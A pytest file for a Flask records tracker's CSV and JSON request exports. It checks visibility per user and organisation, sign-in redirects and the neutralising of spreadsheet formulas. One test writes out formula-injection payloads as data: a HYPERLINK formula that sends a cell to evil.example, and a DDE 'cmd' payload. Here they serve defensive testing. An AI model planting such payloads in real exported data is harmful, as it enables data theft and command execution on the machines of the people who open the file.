"""/requests/export.csv and /requests/export.json: one row per request the user can see."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy.orm import Session

from records import db
from records.cells import FORMULA_STARTS, neutralise
from records.models import Organisation, TrackedRequest, User
from records.tracker.export import COLUMNS
from tests import tracker_data as data


@pytest.fixture
def session(app: Flask) -> Iterator[Session]:
    with db.connect(app.config["DATABASE_URL"]).scope() as s:
        yield s


@pytest.fixture
def world(session: Session) -> dict[str, object]:
    """Ana owns a KCPD request; her clinic (with Ben) has an ICE request; Ben has his own;
    another organisation (without Ana) has one."""
    ana, ben, cy = (data.user(session, f"{n}@example.org") for n in ("ana", "ben", "cy"))
    clinic = data.org(session, "Clinic", ana, ben)
    other = data.org(session, "Other", cy)
    kcpd = data.request(session, ana, events=[
        ("sent", "2026-11-02", {"method": "certified", "certified_number": "9407 1000"}),
        ("received", "2026-11-02")])
    ice = data.request(session, ben, law="foia", agency="ice", organisation=clinic,
                       answers=data.answers_for("foia", "ice", expedite=...),
                       events=[("received", "2026-09-02"),
                               ("acknowledged", "2026-09-03", {"tracking": "2026-ICFO-01234"}),
                               ("denied", "2026-10-01", {"exemptions": ["(b)(6)"]})])
    data.request(session, ben)
    data.request(session, cy, organisation=other)
    return {"ana": ana, "clinic": clinic, "other": other, "kcpd": kcpd, "ice": ice}


def client_for(app: Flask, user: object) -> FlaskClient:
    assert isinstance(user, User)
    return data.signed_in(app.test_client(), user)


def read_csv(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def test_the_csv_has_one_row_per_visible_request(app: Flask, world: dict[str, object]) -> None:
    response = client_for(app, world["ana"]).get("/requests/export.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == \
        'attachment; filename="requests-2026-11-23.csv"'
    found = read_csv(response.data)
    assert [r["id"] for r in found] == [str(world["kcpd"].id), str(world["ice"].id)]  # type: ignore[attr-defined]
    assert list(found[0]) == list(COLUMNS)
    kcpd, ice = found
    assert kcpd["agency"] == "Kansas City Missouri Police Department"
    assert kcpd["status"] == "overdue"
    assert (kcpd["next_deadline"], kcpd["next_clock"]) == ("2026-11-05", "response")
    assert kcpd["days_left"] == "'-18"  # a negative number is neutralised like any cell
    assert (kcpd["letter_date"], kcpd["received_date"]) == ("2026-09-01", "2026-11-02")
    assert kcpd["events_count"] == "2"
    assert kcpd["url"] == f"http://127.0.0.1:5000/requests/{world['kcpd'].id}"  # type: ignore[attr-defined]
    assert ice["tracking_numbers"] == "2026-ICFO-01234"
    assert ice["status"] == "appeal-window-open"


def test_the_json_is_the_same_data_typed(app: Flask, world: dict[str, object]) -> None:
    client = client_for(app, world["ana"])
    response = client.get("/requests/export.json")
    assert response.headers["Content-Disposition"].startswith("attachment;")
    typed = json.loads(response.data)["requests"]
    as_csv = read_csv(client.get("/requests/export.csv").data)
    assert len(typed) == len(as_csv) == 2
    kcpd = typed[0]
    assert kcpd["days_left"] == -18 and kcpd["events_count"] == 2
    assert typed[1]["tracking_numbers"] == ["2026-ICFO-01234"]
    for row, text in zip(typed, as_csv, strict=True):
        for column in COLUMNS:
            value = row[column]
            if isinstance(value, list):
                value = "; ".join(value)
            assert neutralise("" if value is None else str(value)) == text[column], column


def test_one_organisation_at_a_time_and_another_organisation_is_a_404(
        app: Flask, world: dict[str, object]) -> None:
    client = client_for(app, world["ana"])
    clinic, other = world["clinic"], world["other"]
    assert isinstance(clinic, Organisation) and isinstance(other, Organisation)
    found = json.loads(client.get(f"/requests/export.json?org={clinic.id}").data)["requests"]
    assert [r["id"] for r in found] == [world["ice"].id]  # type: ignore[attr-defined]
    for org in (str(other.id), "999", "x", "-1", ""):
        assert client.get(f"/requests/export.csv?org={org}").status_code == 404, org
        assert client.get(f"/requests/export.json?org={org}").status_code == 404, org


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_a_spreadsheet_would_run_gets_a_leading_quote(
        app: Flask, session: Session, world: dict[str, object], start: str) -> None:
    kcpd = world["kcpd"]
    assert isinstance(kcpd, TrackedRequest)
    attack = f"{start}HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
    kcpd.title = attack
    kcpd.events[0].detail = {"tracking": start + "cmd|' /C calc'!A0"}
    kcpd.events[0].kind = "acknowledged"
    session.commit()
    found = read_csv(client_for(app, world["ana"]).get("/requests/export.csv").data)[0]
    assert found["title"] == "'" + attack
    assert not any(cell.startswith(FORMULA_STARTS) for cell in found.values())
    if start.strip():  # a tracking number is stored without surrounding white space
        assert found["tracking_numbers"] == "'" + start + "cmd|' /C calc'!A0"
    assert json.loads(client_for(app, world["ana"]).get(
        "/requests/export.json").data)["requests"][0]["title"] == attack


def test_harmless_cells_are_left_alone() -> None:
    assert neutralise("KCPD: incident of 2019-07-22") == "KCPD: incident of 2019-07-22"
    assert neutralise("a=b") == "a=b"
    assert neutralise("") == ""


def test_signed_out_the_downloads_send_to_sign_in(client: FlaskClient,
                                                  world: dict[str, object]) -> None:
    request_id = world["kcpd"].id  # type: ignore[attr-defined]
    for path in ("/requests/export.csv", "/requests/export.json", f"/requests/{request_id}.ics",
                 f"/requests/{request_id}/packet.pdf"):
        response = client.get(path)
        assert response.status_code == 302, path
        assert response.headers["Location"].startswith("/login?next="), path
